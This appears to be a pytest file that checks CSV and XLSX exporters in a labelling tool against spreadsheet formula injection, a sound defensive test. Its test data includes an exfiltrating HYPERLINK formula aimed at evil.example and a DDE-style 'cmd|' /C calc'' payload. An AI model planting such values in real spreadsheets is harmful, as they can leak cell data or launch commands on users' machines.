"""Formula cells in every CSV and XLSX export (label_config/cells.py and the writers using it).

A memo such as ``=HYPERLINK("http://evil.example/?"&A1,"click")`` must reach a spreadsheet as
text: each writer is checked by the value it writes.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from ls_thematic.label_config.cells import (
    frame_to_csv,
    neutralise,
    neutralise_frame,
    neutralise_row,
    restore,
)
from ls_thematic.scripts.agreement.negotiate import write_disagreements
from ls_thematic.scripts.evaluate_format import to_csv as evaluation_csv
from ls_thematic.scripts.render import render_table
from ls_thematic.scripts.report.xlsx import report_xlsx
from ls_thematic.scripts.sampling import Sample, format_sample

MEMO = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "task_id": [1, 2],
            "memo": [MEMO, "plain text"],
            "score": [-0.25, 1.5],
            "code": ["@Trust", "-3"],
        }
    )


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("plain", "plain"),
        (" =1", " =1"),
        ("", ""),
        ("-12", "-12"),  # text that is exactly a number stays a number
        ("+1.5e3", "+1.5e3"),
        (-3, -3),
        (-0.25, -0.25),
        (None, None),
    ],
)
def test_neutralise(value, written):
    assert neutralise(value) == written
    assert restore(written) == value


def test_neutralise_row_and_frame_leave_numbers_alone():
    assert neutralise_row(["=A1", -1, "x"]) == ["'=A1", -1, "x"]
    frame = _frame()
    safe = neutralise_frame(frame.rename(columns={"code": "=code"}))
    assert list(safe.columns) == ["task_id", "memo", "score", "'=code"]
    assert safe["memo"].tolist() == ["'" + MEMO, "plain text"]
    assert safe["score"].tolist() == [-0.25, 1.5] and safe["score"].dtype == float
    assert safe["task_id"].dtype == frame["task_id"].dtype
    assert frame["memo"].iloc[0] == MEMO  # the frame given is not modified


def test_frame_to_csv_by_value():
    rows = _csv_rows(frame_to_csv(_frame()))
    assert rows == [
        ["task_id", "memo", "score", "code"],
        ["1", "'" + MEMO, "-0.25", "'@Trust"],
        ["2", "plain text", "1.5", "-3"],
    ]


@pytest.mark.parametrize(
    "write",
    [
        pytest.param(lambda frame: render_table(frame, "csv"), id="render_table"),
        pytest.param(lambda frame: format_sample(Sample(frame), "csv"), id="sampling"),
        pytest.param(lambda frame: evaluation_csv({"curve": frame}), id="evaluate_format"),
    ],
)
def test_every_csv_writer_neutralises(write):
    rows = _csv_rows(write(_frame()))
    assert rows[1][1] == "'" + MEMO
    assert rows[1][2] == "-0.25"  # a negative number is a number
    assert rows[1][3] == "'@Trust"


def test_the_disagreements_csv_neutralises(tmp_path):
    path = tmp_path / "disagreements.csv"
    report = {"disagreements": _frame(), "unit": "turns"}
    assert write_disagreements(report, str(path)) == 2
    rows = _csv_rows(path.read_text(encoding="utf-8"))
    assert rows[1][1] == "'" + MEMO and rows[1][2] == "-0.25"


def test_the_workbook_holds_text_not_formulas():
    workbook = openpyxl.load_workbook(io.BytesIO(report_xlsx({"extracts": _frame()})))
    sheet = workbook["extracts"]
    memo, score, code = sheet["B2"], sheet["C2"], sheet["D2"]
    assert memo.value == "'" + MEMO and memo.data_type == "s"
    assert code.value == "'@Trust" and code.data_type == "s"
    assert score.value == -0.25 and score.data_type == "n"
    assert sheet["D3"].value == "-3" and sheet["D3"].data_type == "s"
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_codebook_csv_neutralises_formulas_and_reads_them_back(tmp_path):
    from ls_thematic.label_config.codebook import Codebook
    from ls_thematic.label_config.codebook_io import codebook_from_csv, codebook_to_csv

    book = Codebook.from_dict(
        {
            "title": "t",
            "codes": [
                {"name": "-Side effects", "description": "=HYPERLINK(\"http://x\")"},
                {"name": "Money", "description": "@cost", "examples": ["+1 more", "-2"]},
            ],
        }
    )
    text = codebook_to_csv(book)
    assert "'-Side effects" in text and "'=HYPERLINK" in text and "'@cost" in text
    back = codebook_from_csv(text, "book.csv", title="t")
    assert [c.name for c, _ in back.walk()][:2] == ["-Side effects", "Money"]
    assert back.code("-Side effects").description == '=HYPERLINK("http://x")'
    assert back.code("Money").examples == ["+1 more", "-2"]


def test_agreement_csv_neutralises_a_code_name():
    import csv
    import io

    from ls_thematic.scripts.agreement.present import format_csv

    result = {
        "unit": "sentences",
        "level": "code",
        "overall": {"unit_agreement": -0.25, "n_units": 4},  # a negative number stays one
        "per_level": [],
        "per_code": [{"code": "=cmd", "unit_agreement": 0.5, "n_units": 4}],
        "pairwise": [],
    }
    text = format_csv(result)
    rows = list(csv.reader(io.StringIO(text)))
    assert any(r[3] == "'=cmd" for r in rows)
    assert "=cmd" not in [r[3] for r in rows]
    overall = next(r for r in rows if r[2] == "overall")
    assert "-0.25" in overall
